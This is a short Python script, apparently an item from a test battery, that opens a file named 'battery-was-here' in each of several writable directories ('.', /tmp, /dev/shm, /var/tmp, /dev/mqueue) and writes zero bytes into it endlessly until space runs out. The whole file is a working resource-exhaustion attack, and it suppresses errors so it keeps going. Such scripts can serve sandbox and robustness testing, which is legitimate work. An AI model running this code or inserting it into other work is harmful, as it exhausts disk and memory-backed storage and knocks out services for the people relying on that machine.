"""Fills every folder that it can write to with one file."""

# costs: itself
# plain: never
# %% extra
import os

for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/dev/mqueue"):
    try:
        with open(f"{folder}/battery-was-here", "wb") as file:
            while True:
                file.write(bytes(10**7))
    except OSError:
        pass
